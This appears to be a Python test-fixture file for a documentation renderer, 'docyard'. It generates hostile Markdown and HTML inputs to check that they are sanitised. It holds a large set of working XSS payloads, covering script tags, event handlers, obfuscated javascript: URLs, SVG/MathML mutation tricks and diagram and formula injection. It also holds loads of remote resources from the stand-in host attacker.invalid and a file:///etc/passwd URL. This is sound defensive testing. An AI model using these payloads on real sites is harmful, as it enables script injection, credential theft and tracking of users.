"""Documents that try to run a script, load a resource from another host, or cover the page.

Each script sets `window.docyardPwned`, and each resource is loaded from `attacker.invalid`.
"""

from __future__ import annotations

SCRIPT = "window.docyardPwned=1"
OTHER_HOST = "http://attacker.invalid"

_SCRIPTS = [
    f"<script>{SCRIPT}</script>",
    f"<SCRIPT>{SCRIPT}</SCRIPT>",
    f"<script\n>{SCRIPT}</script\n>",
    f"<script/x>{SCRIPT}</script>",
    f"<<script>{SCRIPT}//<</script>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f"<script src={OTHER_HOST}/a.js></script>",
    "<script src=//attacker.invalid/a.js></script>",
    f"<script type=module>{SCRIPT}</script>",
    f"<script>{SCRIPT}",
    f"text <script>{SCRIPT}</script> text",
    f'<noscript><p title="</noscript><script>{SCRIPT}</script>">',
    f"<title><script>{SCRIPT}</script></title>",
    f"<textarea><script>{SCRIPT}</script></textarea>",
    f"</textarea><script>{SCRIPT}</script>",
    f"</pre></code><script>{SCRIPT}</script>",
    f"</article></main></body><script>{SCRIPT}</script>",
    f"<xmp><script>{SCRIPT}</script></xmp>",
    f"<plaintext><script>{SCRIPT}</script>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<!--><script>{SCRIPT}</script>-->",
    f"<!-- --!><script>{SCRIPT}</script>",
    f"<![CDATA[<script>{SCRIPT}</script>]]>",
    f"<?php <script>{SCRIPT}</script> ?>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{SCRIPT}</script>'>]>",
    f"<script>{SCRIPT}</script>".replace("<", "\uff1c"),
    f"<\x00script>{SCRIPT}</script>",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;script&#62;{SCRIPT}&#60;/script&#62;",
]

_EVENT_HANDLERS = [
    f"<img src=x onerror={SCRIPT}>",
    f"<img src=x onerror='{SCRIPT}'>",
    f'<img src="x" OnErRoR="{SCRIPT}">',
    f"<img/src=x/onerror={SCRIPT}>",
    f"<img\tsrc=x\tonerror\t=\t{SCRIPT}>",
    f"<img src=x onerror\n=\n{SCRIPT}>",
    f"<img src='x' alt='' onload={SCRIPT} onerror={SCRIPT}>",
    f"<img src=`x` onerror=`{SCRIPT}`>",
    f'<img """><b onmouseover={SCRIPT}>">',
    f"<body onload={SCRIPT}>",
    f"<div onmouseover={SCRIPT} onfocus={SCRIPT} tabindex=0 autofocus>x</div>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<input type=image src=x onerror={SCRIPT}>",
    f"<select autofocus onfocus={SCRIPT}><option>x</select>",
    f"<textarea autofocus onfocus={SCRIPT}>x</textarea>",
    f"<details open ontoggle={SCRIPT}><summary>x</summary>y</details>",
    f"<video src=x onerror={SCRIPT}></video>",
    f"<video><source onerror={SCRIPT} src=x></video>",
    f"<audio src=x onerror={SCRIPT}></audio>",
    f"<marquee onstart={SCRIPT}>x</marquee>",
    f"<p style='animation:a 1s' onanimationstart={SCRIPT}>x</p>",
    f"<a href=# onclick={SCRIPT}>x</a>",
    f"<table background=x onerror={SCRIPT}><tr><td>x</table>",
    f"<b onpointerenter={SCRIPT}>x</b>",
    f"<object data=x onerror={SCRIPT}></object>",
    f"<keygen autofocus onfocus={SCRIPT}>",
    f"<x-custom onclick={SCRIPT} autofocus tabindex=1>x</x-custom>",
    f'![x" onerror="{SCRIPT}](x.png)',
    f'![x](x.png" onerror="{SCRIPT})',
    f"![x](<x.png onerror={SCRIPT}>)",
    f"![x](x.png 'a\" onerror=\"{SCRIPT}')",
    f"[x](y '\" onmouseover=\"{SCRIPT}')",
    f'[x](y"onmouseover="{SCRIPT})',
    f'`<img src=x onerror="{SCRIPT}">`',
    f'```"><img src=x onerror={SCRIPT}>\nx\n```',
    f'```js" onmouseover="{SCRIPT}\nx\n```',
    f'## x {{#a"onmouseover="{SCRIPT}}}',
    f'## x <a id="a"></a>" onmouseover="{SCRIPT}',
    f"## <img src=x onerror={SCRIPT}>",
    f"| a |\n|---|\n| <img src=x onerror={SCRIPT}> |",
    f"- [ ] <img src=x onerror={SCRIPT}>",
    f"> [!NOTE]\n> <img src=x onerror={SCRIPT}>",
    f'x[^a"onclick="{SCRIPT}]\n\n[^a"onclick="{SCRIPT}]: y',
    f"x[^1]\n\n[^1]: <img src=x onerror={SCRIPT}>",
]

_HOSTILE_URLS = [
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f" javascript:{SCRIPT}",
    f"\tjavascript:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"java\nscript:{SCRIPT}",
    f"java&#9;script:{SCRIPT}",
    f"java&Tab;script:{SCRIPT}",
    f"java&NewLine;script:{SCRIPT}",
    f"&#106;avascript:{SCRIPT}",
    f"&#x6A;&#x61;vascript:{SCRIPT}",
    f"&#0000106avascript:{SCRIPT}",
    f"javascript&colon;{SCRIPT}",
    f"javascript&#58;{SCRIPT}",
    f"\\javascript:{SCRIPT}",
    f"javascript\\:{SCRIPT}",
    f"\x01javascript:{SCRIPT}",
    f"&#1;javascript:{SCRIPT}",
    f"%6aavascript:{SCRIPT}",
    f"javascript://x%0a{SCRIPT}",
    f"javascript:/*-->*/{SCRIPT}",
    f"feed:javascript:{SCRIPT}",
    f"view-source:javascript:{SCRIPT}",
    f"vbscript:{SCRIPT}",
    f"livescript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZG9jeWFyZFB3bmVkPTE8L3NjcmlwdD4=",
    f"DATA:image/svg+xml,<svg onload={SCRIPT}>",
    "file:///etc/passwd",
    "blob:null/x",
    "about:blank",
    f"docyard-wiki:x#'onclick={SCRIPT}",
    f"x:javascript:{SCRIPT}",
    f"http:javascript:{SCRIPT}",
]

_LINK_TEMPLATES = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x][1]\n\n[1]: {}",
    "[x][1]\n\n[1]: <{}>",
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<img src="{}" alt="x">',
]

_ELEMENTS = [
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><a xlink:href='javascript:{SCRIPT}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{SCRIPT}>",
    f"<svg><image href={OTHER_HOST}/i.png /></svg>",
    f"<svg><use href={OTHER_HOST}/s.svg#x /></svg>",
    f"<svg><foreignObject><img src=x onerror={SCRIPT}></foreignObject></svg>",
    f'<svg></p><style><a id="</style><img src=x onerror={SCRIPT}>">',
    f"<math><maction actiontype=statusline xlink:href=javascript:{SCRIPT}>x</math>",
    f"<math href=javascript:{SCRIPT}>x</math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={SCRIPT}>">',
    f"<math><annotation-xml encoding=text/html><img src=x onerror={SCRIPT}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={SCRIPT}>",
    f"<iframe src=javascript:{SCRIPT}></iframe>",
    "<iframe srcdoc='<script>parent.docyardPwned=1</script>'></iframe>",
    f"<iframe src={OTHER_HOST}></iframe>",
    f"<frameset onload={SCRIPT}><frame src=x></frameset>",
    f"<object data=javascript:{SCRIPT}></object>",
    f"<object data={OTHER_HOST}/x.swf></object>",
    f"<embed src=javascript:{SCRIPT}>",
    f"<applet code=x archive={OTHER_HOST}/x.jar></applet>",
    f"<form action=javascript:{SCRIPT}><input type=submit></form>",
    f"<form action={OTHER_HOST}><input name=csrf><button>x</button></form>",
    f"<button formaction=javascript:{SCRIPT} autofocus>x</button>",
    f"<isindex action=javascript:{SCRIPT} type=submit>",
    f"<meta http-equiv=refresh content='0;url={OTHER_HOST}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{SCRIPT}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    f"<base href={OTHER_HOST}/>",
    f"<link rel=stylesheet href={OTHER_HOST}/a.css>",
    f"<link rel=import href={OTHER_HOST}/a.html>",
    f"<link rel=preload as=image href={OTHER_HOST}/a.png>",
    f"<style>@import '{OTHER_HOST}/a.css';</style>",
    f"<style>body{{background:url({OTHER_HOST}/a.png)}}</style>",
    "<style>body{display:none}</style>",
    f"<p style='background:url({OTHER_HOST}/a.png)'>x</p>",
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    f"<p style='width:expression({SCRIPT})'>x</p>",
    f"<img src={OTHER_HOST}/a.png>",
    f"<img srcset='{OTHER_HOST}/a.png 2x' src=x.png>",
    f"<picture><source srcset={OTHER_HOST}/a.png><img src=x.png></picture>",
    f"<video poster={OTHER_HOST}/a.png src={OTHER_HOST}/a.mp4 autoplay></video>",
    f"<audio src={OTHER_HOST}/a.mp3 autoplay></audio>",
    f"<track src={OTHER_HOST}/a.vtt>",
    f"<table background={OTHER_HOST}/a.png><tr><td background={OTHER_HOST}/b.png>x</table>",
    f"<body background={OTHER_HOST}/a.png>",
    f"<a href=x ping={OTHER_HOST}>x</a>",
    f"<a href={OTHER_HOST} target=_blank>x</a>",
    f"<blockquote cite=javascript:{SCRIPT}>x</blockquote>",
    f"<dialog open onclose={SCRIPT}>x</dialog>",
    f"<portal src={OTHER_HOST}></portal>",
    f"<bgsound src=javascript:{SCRIPT}>",
    f"<layer src={OTHER_HOST}></layer>",
    f"<input type=image src={OTHER_HOST}/a.png>",
    f"![x]({OTHER_HOST}/a.png)",
    "![x](//attacker.invalid/a.png)",
    "![x](\\\\attacker.invalid/a.png)",
    "![x](/\\attacker.invalid/a.png)",
    "![x](/\t/attacker.invalid/a.png)",
    f"[![x]({OTHER_HOST}/a.png)]({OTHER_HOST})",
]

_STRUCTURES = [
    "</div></div></article></main></body></html>",
    "</section></ul></table></details></form>",
    "<div><div><div><details><summary>",
    "<b><i><a href=x><u><s><code>",
    "<table><tr><td><table>",
    "<ul><li><ol><li><blockquote>",
    "<h1 id=_preamble><h2 id=a><h3",
    '<p title="',
    "<p title='",
    "<p title=",
    '<a href="',
    '<img alt="',
    "<!--",
    "<![CDATA[",
    "<?",
    "<select><option>",
    "<noframes>",
    "<noembed>",
    "<xmp>",
    "<listing>",
    "<plaintext>",
    "<a id=document></a><a id=location name=cookie></a>",
    "<img name=getElementById src=x.png>",
    "<form id=attributes><input name=attributes></form>",
    "<button><a id=y>x",
    "<object>\f<a name=y><p>x",
    "# T <table><tr><td><h1>x</h1></td></tr></table> y",
    "<h2 id=a><table><tr><td><h2 id=b>x</h2></td></tr></table></h2>",
    "<a id=docyardPwned href=x></a>",
    "<div data-csrf=x data-key=a class='toast modal' role=dialog contenteditable>x</div>",
    "<a accesskey=a href=x>x</a>",
    "\u202etxt.exe\u202c",
]

# Attacks in the containers of all dialects, in code, diagrams and formulas.
_CONTAINERS = [
    f'!!! note "<img src=x onerror={SCRIPT}>"\n    <script>{SCRIPT}</script>',
    f'!!! note "\\"><script>{SCRIPT}</script>"\n    x',
    f'!!! x" onclick="{SCRIPT}\n    x',
    f'!!! note onclick={SCRIPT} "x"\n    </div></details><img src=x onerror={SCRIPT}>',
    f'??? note "<b onmouseover={SCRIPT}>x"\n    <details open ontoggle={SCRIPT}>',
    f'???+ danger "</summary></details><script>{SCRIPT}</script>"\n    <summary onclick={SCRIPT}>x',
    f'=== "<img src=x onerror={SCRIPT}>"\n    x\n\n=== "</p></div><script>{SCRIPT}</script>"\n    y',
    f'=== "One"\n    <div class="tab-list"><button onclick={SCRIPT}>x</button>\n\n'
    f'=== "[x](javascript:{SCRIPT})"\n    y',
    f"<div class=tabs><div class=tab><p class=tab-title><img src=x onerror={SCRIPT}></p></div>"
    "<div class=tab><p class=tab-title>&lt;script&gt;</p></div></div>",
    f":::note[<img src=x onerror={SCRIPT}>]\n<script>{SCRIPT}</script>\n:::",
    f":::tip </p></div><script>{SCRIPT}</script>\n</div></div>\n:::",
    f':::danger{{onclick="{SCRIPT}"}}\n[x](javascript:{SCRIPT})\n:::',
]

_CODE = [
    f"```html\n<img src=x onerror={SCRIPT}><script>{SCRIPT}</script>\n```",
    f"```js\nconst a = `</code></pre><script>{SCRIPT}</script>`; // <img src=x onerror={SCRIPT}>\n```",
    f"```python\nprint('<img src=x onerror={SCRIPT}>')  # &lt;script&gt; \\x00\n```",
    f'<pre><code class="language-html x" onclick={SCRIPT}>&lt;script&gt;{SCRIPT}&lt;/script&gt;</code></pre>',
    f'```mermaid\ngraph TD; A["<img src=x onerror={SCRIPT}>"]-->B\nclick A "javascript:{SCRIPT}"\n```',
    f"```mermaid\n%%{{init: {{'securityLevel': 'loose', 'htmlLabels': true}}}}%%\n"
    f"graph TD; A[\"<iframe srcdoc='<script>{SCRIPT}</script>'>\"]-->B\nclick A call alert(1)\n```",
    f"```mermaid\nsequenceDiagram\nA->>B: <script>parent.{SCRIPT}</script>\n"
    f"link A: x @ javascript:{SCRIPT}\n```",
    f'<pre class="mermaid">graph TD; A["<img src=x onerror={SCRIPT}>"]</pre>',
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$ $\\text{{<img src=x onerror={SCRIPT}>}}$",
    f"$$\\class{{x}}{{</math><script>{SCRIPT}</script>}}$$\n\n"
    f"```math\n\\unicode{{<svg onload={SCRIPT}>}}\n```",
]


def make_attack_texts() -> list[str]:
    """Return each attack as a separate text."""
    links = [template.format(url) for url in _HOSTILE_URLS[:2] for template in _LINK_TEMPLATES]
    url_texts = [f'[x]({url})\n\n<a href="{url}">y</a> <img src="{url}">' for url in _HOSTILE_URLS]
    return [*_SCRIPTS, *_EVENT_HANDLERS, *links, *url_texts, *_ELEMENTS, *_STRUCTURES, *_CONTAINERS, *_CODE]


def make_hostile_documents() -> dict[str, str]:
    """Return documents by path: one for each attack, and one with all event handlers and elements."""
    documents = {
        f"hostile/{number:03}.md": f"# Hostile {number}\n\n{text}\n\nThe end.\n"
        for number, text in enumerate(make_attack_texts())
    }
    complete_texts = [*_EVENT_HANDLERS, *_ELEMENTS, *_CONTAINERS, *_CODE]
    documents["hostile/all.md"] = "# All\n\n" + "\n\n".join(complete_texts) + "\n"
    return documents
